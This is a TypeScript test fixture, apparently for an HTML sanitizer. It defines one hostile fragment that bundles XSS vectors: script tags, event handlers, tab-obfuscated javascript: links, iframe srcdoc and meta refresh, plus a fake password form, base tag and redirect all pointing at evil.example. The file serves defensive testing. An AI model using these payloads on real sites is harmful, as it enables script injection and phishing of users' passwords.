import type { Fragment } from './fragment';

// Anything of this that runs leaves window.hacked behind, or visibly takes over the page.
const hostile: Fragment = () => `<h1 id="root" class="hostile">A fragment that means harm</h1>
<script>window.hacked = 'script'</script>
<img src=missing onerror="window.hacked = 'image'" alt="A broken picture">
<svg onload="window.hacked = 'svg'"><animate attributeName="href" values="javascript:window.hacked='animate'"></animate></svg>
<p onclick="window.hacked = 'click'" style="position: fixed; inset: 0" tabindex="1" autofocus>Some text that may stay.</p>
<p><a href="javascript:window.hacked='link'">A link that runs</a> <a href=" jav&#x09;ascript:window.hacked='tab'">Another</a></p>
<form action="https://evil.example/"><input name="password" placeholder="Password"><button>Sign in again</button></form>
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<object data="data:text/html,harm"></object><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { display: none }</style>
<dialog open role="dialog" aria-modal="true">Your session has ended</dialog>
<table><caption>What may stay</caption><tbody><tr><td>A table</td></tr></tbody></table>`;

/** Fragments that must do nothing once shown, by path. */
export const hostileFragments: readonly (readonly [path: string, Fragment])[] = [
  ['/portfolio/outstanding/hostile', hostile],
];
